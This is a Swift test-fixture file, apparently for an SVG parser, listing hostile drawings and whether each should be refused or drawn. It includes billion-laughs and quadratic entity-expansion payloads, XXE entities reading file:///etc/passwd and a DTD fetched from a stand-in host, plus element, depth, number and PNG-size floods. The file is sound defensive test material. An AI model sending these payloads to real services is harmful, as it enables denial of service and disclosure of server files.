/// Too much of one kind of thing: entities, elements, attributes, depth, numbers, pixels.
extension HostileDrawing {
  static let entities: [HostileDrawing] = [
    HostileDrawing("billion-laughs", .refused("error: "), laughs(10)),
    HostileDrawing("million-laughs-in-an-attribute", .refused("error: "), laughs(7, in: #"<g id="&e7;"/>"#)),
    HostileDrawing(
      "entity-loop", .refused("error: "),
      #"<!DOCTYPE svg [<!ENTITY a "&b;"><!ENTITY b "&a;">]>"# + svg("<title>&a;</title>" + shape)),
    HostileDrawing("quadratic-entity", .refused("entities become more than"), quadratic),
    HostileDrawing(
      "external-entity", .either,
      #"<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]>"# + svg("<text>&a;</text>" + shape)),
    HostileDrawing(
      "external-entity-relative", .either,
      #"<!DOCTYPE svg [<!ENTITY a SYSTEM "secret.txt">]>"# + svg("<text>&a;</text>" + shape)),
    HostileDrawing(
      "external-dtd", .either, #"<!DOCTYPE svg SYSTEM "http://192.0.2.1/evil.dtd">"# + svg(shape)),
    HostileDrawing(
      "parameter-entity", .either,
      #"<!DOCTYPE svg [<!ENTITY % a SYSTEM "http://192.0.2.1/a"> %a;]>"# + svg(shape)),
    HostileDrawing(
      "entity-of-elements", .either,
      #"<!DOCTYPE svg [<!ENTITY a "<path d='M1 1h9v9z'/>">]>"# + svg("&a;&a;")),
    HostileDrawing(
      "entity-of-elements-many-times", .refused("error: "),
      #"<!DOCTYPE svg [<!ENTITY a "<g/>">]>"# + svg(String(repeating: "&a;", count: 200_000) + shape)),
    HostileDrawing(
      "entity-of-elements-often", .either,
      #"<!DOCTYPE svg [<!ENTITY a "<g/>">]>"# + svg(String(repeating: "&a;", count: 15_000) + shape)),
    HostileDrawing(
      "half-an-element-in-an-entity", .refused("error: "),
      #"<!DOCTYPE svg [<!ENTITY a "<g>">]>"# + svg("&a;</g>")),
  ]

  static let floods: [HostileDrawing] = [
    .inside(
      "many-elements", .refused("more than 20000 elements"), String(repeating: "<g/>", count: 200_000)),
    .inside("elements-at-the-limit", .either, String(repeating: "<g/>", count: 19_000) + shape),
    .inside("many-attributes", .refused("more than 1000 attributes"), "<g " + attributes(100_000) + "/>"),
    .inside("hundred-attributes", .drawn, "<g " + attributes(100) + "/>" + shape),
    .inside("deep", .refused("error: "), nested(5_000)),
    .inside("very-deep", .refused("error: "), nested(100_000)),
    .inside("just-too-deep", .refused("error: "), nested(300)),
    .inside("deep-enough", .drawn, nested(200)),
    .inside(
      "long-path", .refused("more than 500000 numbers"),
      #"<path d="M0 0"# + String(repeating: "l1 1", count: 1_000_000) + #""/>"#),
    .inside(
      "many-points", .refused("more than 500000 numbers"),
      #"<polyline points=""# + String(repeating: "1,2 ", count: 400_000) + #""/>"#),
    .inside(
      "long-number", .either,
      #"<path d="M0 0h1"# + String(repeating: "0", count: 500_000) + #"v9z"/>"# + shape),
    .inside(
      "long-fraction", .drawn, #"<path d="M4.0"# + String(repeating: "0", count: 100_000) + #"1 4h9v6z"/>"#),
    .inside(
      "long-identifier", .drawn, #"<g id=""# + String(repeating: "a", count: 300_000) + #""/>"# + shape),
    .inside(
      "many-classes", .drawn, #"<g class=""# + String(repeating: "a b ", count: 20_000) + #""/>"# + shape),
    .inside(
      "long-style", .either,
      "<style>" + String(repeating: ".a>.b{fill:red}", count: 5_000) + "</style>" + shape),
    .inside(
      "long-selector", .either,
      "<style>" + String(repeating: "g ", count: 20_000) + "{fill:red}</style>" + shape),
    .inside(
      "long-transform", .either,
      #"<g transform=""# + String(repeating: "rotate(1)", count: 50_000) + #"">"# + shape + "</g>"),
    .inside("long-comment", .drawn, "<!--" + String(repeating: "x", count: 2_000_000) + "-->" + shape),
    HostileDrawing("larger-than-allowed", .refused("it is larger than")) {
      Array(svg("<!--" + String(repeating: "x", count: 17 << 20) + "-->" + shape).utf8)
    },
    HostileDrawing("wide", .refused("error: "), svg(shape, #"width="30000" height="1""#)),
    HostileDrawing("high", .either, svg(shape, #"width="1" height="30000""#)),
    HostileDrawing(
      "enormous", .drawn, svg(shape, #"width="99999999" height="99999999" viewBox="0 0 24 24""#)),
    .inside(
      "picture-of-25000-squared", .refused("25000 × 25000 pixels"), picture(width: 25_000, height: 25_000)),
    .inside("picture-of-no-pixels", .either, picture(width: 0, height: 0) + shape),
    .inside("picture-of-overflow", .refused("pixels"), picture(width: 0xFFFF_FFFF, height: 0xFFFF_FFFF)),
    .inside(
      "picture-of-noise", .either,
      #"<image width="9" height="9" href="data:image/png;base64,iVBORw0KGgo!!!!"/>"# + shape),
    .inside(
      "many-stops", .either,
      #"<linearGradient id="g">"# + String(repeating: "<stop/>", count: 50_000)
        + #"</linearGradient><path fill="url(#g)" d="M0 0h9v9z"/>"#),
    .inside("many-dashes", .either, #"<path stroke="red" stroke-dasharray=".00001" d="M0 0H24"/>"# + shape),
  ]

  private static func laughs(_ depth: Int, in content: String? = nil) -> String {
    let levels = (1...depth).map { level in
      "<!ENTITY e\(level) \"" + String(repeating: level == 1 ? "ha" : "&e\(level - 1);", count: 10) + "\">"
    }
    return "<!DOCTYPE svg [" + levels.joined() + "]>" + svg((content ?? "<title>&e\(depth);</title>") + shape)
  }

  private static var quadratic: String {
    #"<!DOCTYPE svg [<!ENTITY a ""# + String(repeating: "x", count: 50_000) + "\">]>"
      + svg("<title>" + String(repeating: "&a;", count: 20_000) + "</title>" + shape)
  }

  private static func attributes(_ count: Int) -> String {
    (0..<count).map { "a\($0)=\"\"" }.joined(separator: " ")
  }

  private static func nested(_ depth: Int) -> String {
    String(repeating: "<g>", count: depth) + shape + String(repeating: "</g>", count: depth)
  }

  /// Returns the header of a PNG of a size, without its pixels.
  private static func picture(width: UInt32, height: UInt32) -> String {
    let size = [width, height].flatMap { value in
      [24, 16, 8, 0].map { UInt8(truncatingIfNeeded: value >> $0) }
    }
    let bytes: [UInt8] =
      [0x89, 0x50, 0x4E, 0x47, 13, 10, 26, 10, 0, 0, 0, 13, 0x49, 0x48, 0x44, 0x52] + size
      + [8, 6, 0, 0, 0, 0, 0, 0, 0]
    return "<image width=\"9\" height=\"9\" href=\"data:image/png;base64,\(base64(bytes))\"/>"
  }

  private static func base64(_ bytes: [UInt8]) -> String {
    let alphabet = Array("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/")
    return stride(from: 0, to: bytes.count - bytes.count % 3, by: 3).map { start in
      let word = bytes[start..<start + 3].reduce(0) { $0 << 8 | Int($1) }
      return String([18, 12, 6, 0].map { alphabet[word >> $0 & 63] })
    }.joined()
  }
}
